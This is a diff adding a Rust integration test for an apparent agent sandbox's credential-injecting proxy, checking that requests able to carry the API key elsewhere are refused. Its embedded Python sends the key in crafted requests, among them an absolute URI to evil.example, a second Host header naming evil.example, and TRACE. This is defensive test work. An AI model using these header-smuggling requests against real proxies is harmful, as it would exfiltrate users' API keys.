@@ -344,3 +344,126 @@ fn claude_and_codex_answer_with_only_a_placeholder() {
         assert_clean(env);
     });
 }
+
+/// Requests that would carry the key past the declared host or hand it back (found by an
+/// attacker): an absolute URI or a second `Host` inside the tunnel, `TRACE`, a plain-HTTP
+/// request to an `https://` key host. Python's default TLS context checks the launch CA's leaf
+/// (it wants an authority key identifier). An `http://` base URL (a local gateway) does get it.
+#[test]
+fn requests_that_could_take_the_key_elsewhere_are_refused() {
+    let Some(addr) = host_address() else {
+        println!("SKIP: no address of this machine from `hostname -I`");
+        return;
+    };
+    each_mode(|env| {
+        if !has_agent_image(env) {
+            return;
+        }
+        let real = real_key(env);
+        let pki = test_pki(&env.root().join("pki"), &addr);
+        let tls_log = env.root().join("tls.jsonl");
+        let ep = tls_endpoint(&addr, &pki, "x-api-key", &real, &tls_log);
+        let plain_log = env.root().join("plain.jsonl");
+        let required = format!("x-api-key={real}");
+        let plain = endpoint_with(
+            &addr,
+            &[
+                "--require-header",
+                &required,
+                "--log",
+                plain_log.to_str().unwrap(),
+            ],
+        );
+        env.write_global_config(&format!(
+            "[network]\nmode = \"allowlist\"\nagent_hosts = false\nallow = [\"{addr}:{}\", \"{addr}:{}\"]\n\n[image]\nca_certs = [\"{}\"]\n",
+            ep.port,
+            plain.port,
+            pki.0.display()
+        ));
+        let python = format!(
+            r#"
+import os, socket, ssl
+def send(head):
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(b"CONNECT {addr}:{p} HTTP/1.1\r\nHost: {addr}:{p}\r\n\r\n")
+    s.recv(4096)
+    t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname="{addr}")
+    t.sendall(head.encode())
+    return t.recv(300).split(b"\r\n")[0].decode()
+k = os.environ["ANTHROPIC_API_KEY"]
+body = "Content-Length: 2\r\n\r\n{{}}"
+print("ok=" + send(f"POST /v1/messages HTTP/1.1\r\nHost: {addr}:{p}\r\nx-api-key: {{k}}\r\n" + body))
+print("absolute=" + send(f"POST http://evil.example/v1/messages HTTP/1.1\r\nHost: {addr}:{p}\r\nx-api-key: {{k}}\r\n" + body))
+print("twohosts=" + send(f"POST /v1/messages HTTP/1.1\r\nHost: {addr}:{p}\r\nHost: evil.example\r\nx-api-key: {{k}}\r\n" + body))
+print("trace=" + send(f"TRACE /v1/messages HTTP/1.1\r\nHost: {addr}:{p}\r\nx-api-key: {{k}}\r\n\r\n"))
+"#,
+            p = ep.port
+        );
+        let script = format!(
+            "python3 -c '{python}'\n\
+             echo \"plain=$(curl -sS -o /dev/null -w '%{{http_code}}' http://{addr}:{q}/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{{}}')\"",
+            q = plain.port
+        );
+        let base = format!("ANTHROPIC_BASE_URL=https://{addr}:{}", plain.port);
+        // The key is for the plain endpoint's port over https: a plain request there gets none.
+        let first = launch(
+            env,
+            "shell",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base],
+            &["sh", "-c", &script],
+        );
+        let text = stdout(&first);
+        assert!(text.contains("plain=401"), "{}: {}", env.mode(), show(&first));
+        let base = format!("ANTHROPIC_BASE_URL=https://{addr}:{}", ep.port);
+        let out = launch(
+            env,
+            "shell",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base],
+            &["sh", "-c", &script],
+        );
+        let text = stdout(&out);
+        assert!(text.contains("ok=HTTP/1.1 200"), "{}: {}", env.mode(), show(&out));
+        for refused in [
+            "absolute=HTTP/1.1 400",
+            "twohosts=HTTP/1.1 400",
+            "trace=HTTP/1.1 400",
+        ] {
+            assert!(
+                text.contains(refused),
+                "{}: {refused}: {}",
+                env.mode(),
+                show(&out)
+            );
+        }
+        let seen = read_jsonl(&std::fs::read_to_string(&tls_log).unwrap_or_default());
+        assert_eq!(
+            seen.len(),
+            1,
+            "{}: only the ordinary request arrives: {seen:#?}",
+            env.mode()
+        );
+        // An http:// base URL names a gateway without TLS: the key goes in there.
+        let base = format!("ANTHROPIC_BASE_URL=http://{addr}:{}", plain.port);
+        let script = format!(
+            "curl -sS -o /dev/null -w 'plain=%{{http_code}}' http://{addr}:{}/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{{}}'",
+            plain.port
+        );
+        let out = launch(
+            env,
+            "shell",
+            ("ANTHROPIC_API_KEY", &real),
+            &[base],
+            &["sh", "-c", &script],
+        );
+        assert!(
+            stdout(&out).contains("plain=200"),
+            "{}: {}",
+            env.mode(),
+            show(&out)
+        );
+        assert!(!show(&out).contains(&real) && !show(&first).contains(&real));
+        assert_clean(env);
+    });
+}
